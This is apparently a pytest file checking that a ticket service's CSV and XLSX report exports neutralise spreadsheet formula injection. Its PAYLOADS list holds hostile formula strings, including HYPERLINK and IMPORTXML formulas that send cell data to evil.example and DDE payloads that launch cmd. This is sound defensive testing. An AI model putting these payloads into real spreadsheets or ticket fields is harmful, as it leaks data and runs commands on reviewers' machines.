"""Threat: a ticket, title or widget query written as a formula runs when a reviewer opens a report.

Every spreadsheet writer goes through `export.safe_cell`: text starting with = + - @ tab or CR is
written as text (CSV: a leading ', XLSX: a string cell, never a formula); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from kbsvc.analytics import export

PAYLOADS = [
    '=HYPERLINK("http://evil.example/leak?"&A2,"点此查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
]
NUMBERS = [-5, 3.5, 0, 12]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _table() -> export.Table:
    rows: list[list[object]] = [[p, n] for p, n in zip(PAYLOADS, NUMBERS * 3, strict=False)]
    return export.Table("t", "测试", ["=标题", "数量"], rows)


def _xlsx_cells(body: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(body))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_csv_cells_never_start_with_a_formula_trigger() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(_table()).decode("utf-8-sig"))))
    cells = [v for row in rows for v in row if v not in {str(n) for n in NUMBERS}]
    assert not [v for v in cells if v.startswith(TRIGGERS)]
    assert "'-2+3" in cells and "'@SUM(1)" in cells
    assert ["'=1+1", "-5"] in rows  # the number -5 is left alone


def test_xlsx_has_string_cells_and_real_numbers() -> None:
    cells = _xlsx_cells(export.to_xlsx([_table()]))
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in texts if v.startswith(TRIGGERS)]
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -5 in numbers and 3.5 in numbers


def test_report_exports_keep_hostile_ticket_fields_inert(
    client: TestClient, editor_headers: dict[str, str], reviewer_headers: dict[str, str]
) -> None:
    """Department, system and category of imported tickets reach the demand report's cells."""
    tickets = [
        {
            "external_id": f"F{i}",
            "title": "打印失败",
            "department": p,
            "system": p[::-1] if p[0] not in "\t\r" else p,
            "category": p,
        }
        for i, p in enumerate(PAYLOADS)
    ]
    r = client.post("/api/v1/tickets", json=tickets, headers=editor_headers)
    assert r.status_code == 200, r.text
    url = "/api/v1/reports/demand"
    for table in ("matrix", "by_category"):
        body = client.get(url, params={"format": "csv", "table": table}, headers=reviewer_headers)
        cells = [v for row in csv.reader(io.StringIO(body.text.lstrip("\ufeff"))) for v in row]
        assert not [v for v in cells if v.startswith(TRIGGERS)], table
    xlsx = client.get(url, params={"format": "xlsx"}, headers=reviewer_headers)
    cells = _xlsx_cells(xlsx.content)
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'@SUM(1)" for c in cells)
